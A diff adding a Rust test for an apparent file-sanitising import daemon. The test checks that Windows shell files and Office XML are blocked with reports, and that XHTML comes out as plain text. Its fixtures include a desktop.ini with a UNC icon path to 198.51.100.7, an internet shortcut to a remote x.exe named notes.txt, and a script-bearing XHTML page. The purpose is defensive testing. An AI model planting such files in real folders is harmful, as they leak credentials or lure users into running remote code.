@@ -339,3 +339,57 @@ fn the_daemon_waits_for_a_slow_writer_and_survives_sigkill() {
         "the slow file was taken whole"
     );
 }
+
+/// Issue #20 (classes 1 and 8) through the import folder: Windows shell files and Office XML
+/// never reach the export folder (only their reports do); XHTML comes out as text.
+#[test]
+fn shell_files_and_office_xml_never_reach_the_export_folder() {
+    let root = tempfile::tempdir().unwrap();
+    let data = root.path().join("data");
+    let config = config_file(&data, 0, "");
+    let import = data.join("import/課");
+    let mut desktop_ini = vec![0xFF, 0xFE];
+    for unit in "[.ShellClassInfo]\r\nIconResource=\\\\198.51.100.7\\s\\f.ico,0\r\n".encode_utf16()
+    {
+        desktop_ini.extend_from_slice(&unit.to_le_bytes());
+    }
+    put(&import.join("desktop.ini"), &desktop_ini);
+    put(
+        &import.join("share.searchConnector-ms"),
+        b"<?xml version=\"1.0\"?><searchConnectorDescription \
+          xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"/>",
+    );
+    put(
+        &import.join("notes.txt"),
+        b"[InternetShortcut]\r\nURL=file://198.51.100.7/s/x.exe\r\n",
+    );
+    put(
+        &import.join("文書.xml"),
+        b"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">\
+          <w:body/></w:wordDocument>",
+    );
+    put(
+        &import.join("page.xml"),
+        b"<h:html xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:body><h:p>hello</h:p>\
+          <h:script>alert(1)</h:script></h:body></h:html>",
+    );
+    let (code, table) = import_once(&config);
+    assert_eq!(code, 0, "{table}");
+    let out = files_under(&data.join("export"));
+    for gone in [
+        "課/desktop.ini",
+        "課/share.searchConnector-ms",
+        "課/notes.txt",
+        "課/文書.xml",
+    ] {
+        assert!(!out.iter().any(|f| f == gone), "{gone} delivered: {out:?}");
+        assert!(
+            out.iter()
+                .any(|f| f == &format!("{gone}.無害化レポート.txt")),
+            "{gone} has no report: {out:?}"
+        );
+    }
+    assert!(!out.iter().any(|f| f == "課/page.xml"), "{out:?}");
+    let page = std::fs::read_to_string(data.join("export/課/page.txt")).unwrap();
+    assert!(page.contains("hello") && !page.contains("<h:"), "{page}");
+}
